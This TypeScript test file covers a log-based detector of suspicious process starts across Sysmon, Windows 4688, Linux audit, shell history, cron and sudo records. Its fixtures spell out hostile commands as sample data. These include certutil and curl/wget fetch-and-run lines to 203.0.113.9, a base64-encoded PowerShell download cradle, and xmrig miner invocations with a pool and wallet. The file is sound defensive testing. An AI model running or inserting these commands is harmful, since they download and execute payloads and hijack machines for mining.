import { describe, expect, it } from 'vitest';
import { eventLine, lineFormat, saidLine, seenIn } from '../../../tests/event-harness.ts';
import { runEvents } from '../../../tests/harness.ts';
import { fixture } from './processes.fixture.ts';
import { processes } from './processes.ts';

const read = (...lines: string[]) => seenIn(processes, lines);
const sysmon = (fields: Record<string, string | number>, seconds = 0) =>
  eventLine({ EventID: 1, ...fields }, { seconds, machine: 'WEB1' });
const history = (CommandLine: string) =>
  eventLine({ CommandLine }, { source: { service: 'history' }, line: CommandLine });

describe('processes', () => {
  it('says how many starts it does not tell', () => {
    const input = Array.from({ length: 1003 }, (_, i) => sysmon({ Image: 'C:\\a\\xmrig.exe', User: `u${i}` })).join(
      '\n',
    );
    const { sightings, misses } = runEvents(processes, lineFormat, { name: 'log', input });
    expect(sightings.filter(({ kind }) => kind === 'process-start')).toHaveLength(1000);
    expect(misses).toEqual([{ gap: { code: 'limit-count', what: '3 more started programs are not told' } }]);
  });
  it('tells of a shell that a web server started, and of its parent', () => {
    const seen = read(
      sysmon({
        Image: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd.exe /c certutil -urlcache -split -f http://203.0.113.9/a.exe C:\\Windows\\Temp\\a.exe',
        ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
        User: 'IIS APPPOOL\\DefaultAppPool',
        ProcessId: '4120',
        ParentProcessId: '0x1a4',
        Hashes: `SHA256=${'AB'.repeat(32)},IMPHASH=00`,
      }),
    );
    expect(seen).toMatchObject([
      {
        kind: 'process-start',
        value: {
          service: 'iis',
          why: ['child-of-service', 'fetches'],
          machine: 'WEB1',
          pid: 4120,
          sha256: 'ab'.repeat(32),
          parent: { program: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', pid: 420 },
        },
      },
    ]);
  });
  it('reads 4688, whose ProcessId is the parent', () => {
    const [seen] = read(
      eventLine({
        EventID: 4688,
        NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd /c whoami',
        ParentProcessName: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
        NewProcessId: '0x10',
        ProcessId: '0x20',
      }),
    );
    expect(seen).toMatchObject({ value: { pid: 16, parent: { pid: 32 }, why: ['child-of-service'] } });
  });
  it('joins what a service starts again and again', () => {
    const lines = Array.from({ length: 500 }, (_, i) =>
      sysmon(
        {
          Image: '/bin/sh',
          CommandLine: `sh -c curl http://h.example/${i}`,
          ParentImage: '/usr/bin/node',
          ParentCommandLine: 'node server.js',
        },
        i,
      ),
    );
    expect(read(...lines)).toMatchObject([{ value: { service: 'node', times: 500 } }]);
  });
  it('tells of a miner in an audit record, and of the account that only its decoded arguments name', () => {
    const login = '888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
    const seen = read(
      eventLine(
        {
          type: 'EXECVE',
          a0: '/tmp/.x/kswapd0',
          a1: '-o',
          a2: 'pool.example.com:3333',
          a3: '-u',
          a4: login,
          a5: '--donate-level=1',
        },
        { line: 'type=EXECVE msg=audit(1.1:1): argc=6 a0=2F746D70' },
      ),
    );
    expect(seen).toMatchObject([
      { kind: 'process-start', value: { why: ['mines', 'from-temporary-folder'], program: '/tmp/.x/kswapd0' } },
      { kind: 'mining-config', value: { source: 'argv', pools: [{ host: 'pool.example.com', port: 3333 }] } },
    ]);
  });
  it('reads histories, cron and sudo', () => {
    const seen = read(
      history('curl -fsSL http://203.0.113.9/x.sh | bash'),
      saidLine('(root) CMD (wget -q -O - http://203.0.113.9/cron.sh | sh)'),
      saidLine('anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/dev/shm/.k/xmrig --donate-level 1'),
    );
    expect(seen.map(({ value }) => 'why' in value && String(value.why))).toEqual([
      'fetches',
      'fetches',
      'mines,from-temporary-folder',
    ]);
  });
  it('finds the parent that an audit record names by its number, or the service by its account', () => {
    const run = (pid: number, ppid: number, Image: string, CommandLine: string, User: string) =>
      eventLine(
        { type: 'EXECVE', Image, CommandLine, User, ProcessId: pid, ParentProcessId: ppid },
        { line: 'type=EXECVE' },
      );
    const seen = read(
      run(10, 1, '/usr/bin/redis-server', 'redis-server *:6379', 'root'),
      run(11, 10, '/bin/sh', 'sh -c id', 'root'),
      run(12, 99, '/bin/sh', 'sh -c curl http://h.example/x', 'www-data'),
    );
    expect(seen).toMatchObject([
      { value: { service: 'redis', parent: { program: '/usr/bin/redis-server', pid: 10 } } },
      { value: { service: 'web' } },
    ]);
  });
  it('opens what PowerShell is told in base64', () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    const command = `powershell -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
    expect(read(sysmon({ Image: 'powershell.exe', CommandLine: command }))).toMatchObject([
      { value: { why: ['fetches', 'hides'] } },
    ]);
  });
  it.each(fixture.fires)('tells of $name', ({ lines, expect: expected }) => {
    expect(read(...lines)).toMatchObject(expected);
  });
  it.each(fixture.silent)('is silent on $name', ({ lines }) => {
    expect(read(...lines)).toEqual([]);
  });
});
